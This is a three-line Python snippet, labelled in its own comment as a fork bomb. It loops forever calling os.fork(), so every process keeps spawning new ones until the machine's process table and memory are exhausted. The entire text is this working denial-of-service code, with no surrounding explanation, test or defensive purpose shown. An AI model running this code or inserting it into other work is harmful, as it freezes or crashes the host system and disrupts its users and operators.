# os.fork in a loop: a fork bomb.
import os

while True:
    if os.fork() == 0:
        continue
